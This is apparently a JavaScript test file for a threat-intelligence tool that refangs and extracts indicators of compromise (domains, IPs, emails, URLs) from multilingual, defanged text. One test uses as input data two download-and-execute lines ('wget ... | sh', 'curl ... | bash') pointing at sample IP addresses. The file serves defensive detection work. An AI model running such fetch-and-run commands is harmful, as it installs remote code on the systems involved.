import { test } from 'node:test';
import assert from 'node:assert/strict';
import { refang } from '../../src/analyse/iocs/index.js';
import { found, one } from './helpers.js';

test('defanging forms are refanged', () => {
  assert.deepEqual(found('1.2.3[.]4 5(.)6(.)7(.)8 evil[dot]com bad(dot)net x{.}org'),
    ['domain:bad.net', 'domain:evil.com', 'domain:x.org', 'ipv4:1.2.3.4', 'ipv4:5.6.7.8']);
  assert.deepEqual(found('user[at]mail.ru admin(at)corp-x[dot]com root[@]host-y.net ops {at} z-corp.org'),
    ['email:admin@corp-x.com', 'email:ops@z-corp.org', 'email:root@host-y.net', 'email:user@mail.ru']);
  assert.deepEqual(found('hxxp://a-evil.com/x hXXps[:]//b-evil.com/y http[://]c-evil.com/z fxp://d-evil.com/w'),
    ['domain:a-evil.com', 'domain:b-evil.com', 'domain:c-evil.com', 'domain:d-evil.com',
      'url:ftp://d-evil.com/w', 'url:http://a-evil.com/x', 'url:http://c-evil.com/z', 'url:https://b-evil.com/y']);
  assert.deepEqual(found('evil [.] com and 5.188.206 [.] 210'), ['domain:evil.com', 'ipv4:5.188.206.210']);
  assert.deepEqual(found('seller[собака]mail[точка]ru'), ['email:seller@mail.ru']);
  assert.deepEqual(found('C2 evil-c2\u200b.com'), ['domain:evil-c2.com']);
});

test('indicators split across lines after a defanged dot are joined', () => {
  assert.deepEqual(found('panel: hxxp://evil-panel[.]\nru/gate.php'), ['domain:evil-panel.ru', 'url:http://evil-panel.ru/gate.php']);
  assert.deepEqual(found('ip 45.142.212[.]\r\n61 ok'), ['ipv4:45.142.212.61']);
});

test('Chinese and Cyrillic neighbours without spaces; full-width and ideographic dots', () => {
  assert.deepEqual(found('服务器在45.142.212.61上面，域名evil-cdn.com已经上线'), ['domain:evil-cdn.com', 'ipv4:45.142.212.61']);
  assert.deepEqual(found('新域名：bad-site．com 和 evil-host。net'), ['domain:bad-site.com', 'domain:evil-host.net']);
  assert.deepEqual(found('下载地址：hxxp://45.142.212[.]61:8080/a.exe，密码123'), ['ipv4:45.142.212.61', 'url:http://45.142.212.61:8080/a.exe']);
  assert.deepEqual(found('Адрес:91.215.85[.]17,порт 4444. Домен:panel-gate[.]top'), ['domain:panel-gate.top', 'ipv4:91.215.85.17']);
  assert.deepEqual(found('Новый домен «evil-site.ru», старый 【old-evil.cn】'), ['domain:evil-site.ru', 'domain:old-evil.cn']);
});

test('indicators inside code blocks (Markdown fences and BBCode [code])', () => {
  assert.deepEqual(found('```\nwget hxxp://185.220.101[.]34/x -O- | sh\n```'), ['ipv4:185.220.101.34', 'url:http://185.220.101.34/x']);
  assert.deepEqual(found('[code]curl -s http://193.42.33.14/i.sh | bash[/code]'), ['ipv4:193.42.33.14', 'url:http://193.42.33.14/i.sh']);
});

test('offset map: spans of matches map back to the original text exactly', () => {
  const text = 'a [.] b, hxxp://x[.]y[.]com/p\u200b and user[at]ex[dot]org end';
  const r = refang(text);
  assert.equal(r.text, 'a.b, http://x.y.com/p and user@ex.org end');
  for (const m of [one(text, 'url'), one(text, 'email')]) {
    const raw = text.slice(m.start, m.end);
    assert.ok(m.defanged, `${m.type} should be defanged`);
    assert.ok(raw.startsWith(m.type === 'url' ? 'hxxp' : 'user') && raw.endsWith(m.type === 'url' ? '/p' : 'org'), raw);
  }
  const plain = refang('nothing to see here');
  assert.equal(plain.rewrites, 0);
  assert.equal(plain.toOriginalStart(5), 5);
});
